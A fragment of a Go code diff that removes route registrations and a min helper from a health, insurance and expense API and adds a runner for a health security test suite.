-	health.GET("/profiles/:id/summary", healthHandler.GetHealthSummary)
-	health.GET("/profiles/:id/risk", healthHandler.CalculateRisk)
-
-	// Condition routes
-	health.POST("/conditions", healthHandler.CreateCondition)
-	health.GET("/conditions/:id", healthHandler.GetCondition)
-	health.PUT("/conditions/:id", healthHandler.UpdateCondition)
-	health.DELETE("/conditions/:id", healthHandler.DeleteCondition)
-	health.GET("/profiles/:profileId/conditions", healthHandler.GetConditionsByProfile)
-
-	// Policy routes
-	health.POST("/policies", healthHandler.CreatePolicy)
-	health.GET("/policies/:id", healthHandler.GetPolicy)
-	health.PUT("/policies/:id", healthHandler.UpdatePolicy)
-	health.DELETE("/policies/:id", healthHandler.DeletePolicy)
-	health.GET("/profiles/:profileId/policies", healthHandler.GetPoliciesByProfile)
-
-	// Expense routes
-	health.POST("/expenses", healthHandler.CreateExpense)
-	health.GET("/expenses/:id", healthHandler.GetExpense)
-	health.PUT("/expenses/:id", healthHandler.UpdateExpense)
-	health.DELETE("/expenses/:id", healthHandler.DeleteExpense)
-	health.GET("/profiles/:profileId/expenses", healthHandler.GetExpensesByProfile)
+// Run the test suite
+func TestHealthSecurityTestSuite(t *testing.T) {
+	suite.Run(t, new(HealthSecurityTestSuite))
 }
-
-func min(a, b int) int {
-	if a < b {
-		return a
-	}
-	return b
-}
\ No newline at end of file